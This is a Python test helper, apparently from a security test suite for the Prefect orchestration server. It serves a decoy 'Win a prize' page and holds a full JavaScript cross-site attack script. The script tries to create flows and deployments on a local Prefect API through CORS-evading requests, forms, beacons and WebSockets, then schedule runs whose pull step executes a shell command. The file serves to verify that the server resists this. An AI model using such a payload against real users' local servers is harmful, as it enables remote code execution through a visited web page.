"""A page of another site that tries to use a Prefect server on this machine."""

from __future__ import annotations

import contextlib
import http.server
import threading
from collections.abc import Iterator
from typing import Any

SCRIPT = """
async api => {
    const answers = [], sockets = [];
    const ask = async (path, body, type, options) => {
        const request = body === undefined ? {} : {
            method: "POST", headers: {"Content-Type": type}, body: JSON.stringify(body)
        };
        try {
            const answer = await fetch(api + path, {...request, ...options});
            const text = await answer.text();
            if (answer.type !== "opaque") answers.push(`${path} ${answer.status} ${text}`);
            return JSON.parse(text);
        } catch {
            return null;
        }
    };
    await ask("/admin/version");
    await ask("/admin/version", undefined, "", {credentials: "include"});
    for (const type of ["text/plain", "application/json"]) {
        const steps = [{"prefect.deployments.steps.run_shell_script": {script: "touch proof"}}];
        const flow = await ask("/flows/", {name: "stolen"}, type);
        const made = await ask("/deployments/", {
            name: "stolen", flow_id: flow?.id, pull_steps: steps, entrypoint: "stolen.py:stolen",
        }, type);
        for (const one of [made, ...(await ask("/deployments/filter", {}, type) ?? [])]) {
            const change = {overrides: ["source.kind=json", "source.url=http://127.0.0.1/"]};
            const run = {parameters: {...one?.parameters, ...change}, state: {type: "SCHEDULED"}};
            await ask(`/deployments/${one?.id}/create_flow_run`, run, type);
        }
    }
    for (const mode of ["no-cors", "cors"]) {
        await ask("/flows/", {name: "blind"}, "text/plain", {mode, credentials: "include"});
        await ask("/flows/", undefined, "", {
            mode, method: "POST", body: new Blob([JSON.stringify({name: "blind"})]),
        });
    }
    navigator.sendBeacon(api + "/flows/", JSON.stringify({name: "blind"}));
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.name = "frame";
    const form = document.body.appendChild(document.createElement("form"));
    Object.assign(form, {action: api + "/flows/", method: "POST", target: "frame"});
    form.enctype = "text/plain";
    const field = form.appendChild(document.createElement("input"));
    [field.name, field.value] = ['{"name": "form", "tags": ["', '"]}'];
    form.submit();
    for (const path of ["/events/in", "/events/out", "/logs/out"]) {
        for (const protocol of [[], ["prefect"]]) {
            await new Promise(done => {
                const socket = new WebSocket(api.replace("http", "ws") + path, protocol);
                socket.onopen = () => { sockets.push(path); socket.close(); done(); };
                socket.onerror = done;
            });
        }
    }
    await new Promise(done => setTimeout(done, 1000));
    return {answers, sockets};
}
"""
"""Returns the answers that the page can read, and the WebSockets that were opened to it."""


@contextlib.contextmanager
def other_site() -> Iterator[int]:
    """Serve an empty page on another port of this machine; gives the port."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>Win a prize</title>")

        def log_message(self, *_: Any) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_address[1]
        server.shutdown()
